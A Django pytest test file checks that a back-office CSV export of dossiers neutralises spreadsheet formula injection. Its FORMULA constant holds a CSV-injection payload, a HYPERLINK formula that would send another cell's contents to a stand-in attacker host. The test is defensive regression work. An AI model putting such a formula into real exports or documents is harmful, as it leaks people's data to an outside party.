"""Issue #10, hole 4: the back office's CSV of dossiers sends no formula to the spreadsheet."""

import csv
import io

import pytest
from django.urls import reverse

from relais.procedures import services
from tests.factories import verified_login
from tests.procedures.factories import agent_of
from tests.procedures.test_services import PAGE0, fill

pytestmark = pytest.mark.django_db

FORMULA = '=HYPERLINK("https://evil.example/?"&C2;"Voir")'


def test_backoffice_csv_neutralises_answers(client, procedure, owner):
    dossier = services.dossier_start(actor=owner.user, procedure=procedure)
    dossier = fill(dossier, owner.user)
    dossier = services.dossier_save_page(
        dossier=dossier, actor=owner.user, page=0, values={**PAGE0, "prenom": FORMULA}, revision=dossier.revision
    ).dossier
    services.dossier_submit(dossier=dossier, actor=owner.user)
    verified_login(client, agent_of(procedure.organisation))
    export = client.get(reverse("procedures:backoffice_export", args=[procedure.pk]))
    rows = list(csv.reader(io.StringIO(export.content.decode("utf-8-sig")), delimiter=";"))
    header, row = rows[0], rows[1]
    assert row[header.index("Votre prénom")] == "'" + FORMULA
    assert row[header.index("Revenus par mois")] == "845,50"
    assert not any(cell.startswith(("=", "@")) for cell in row)
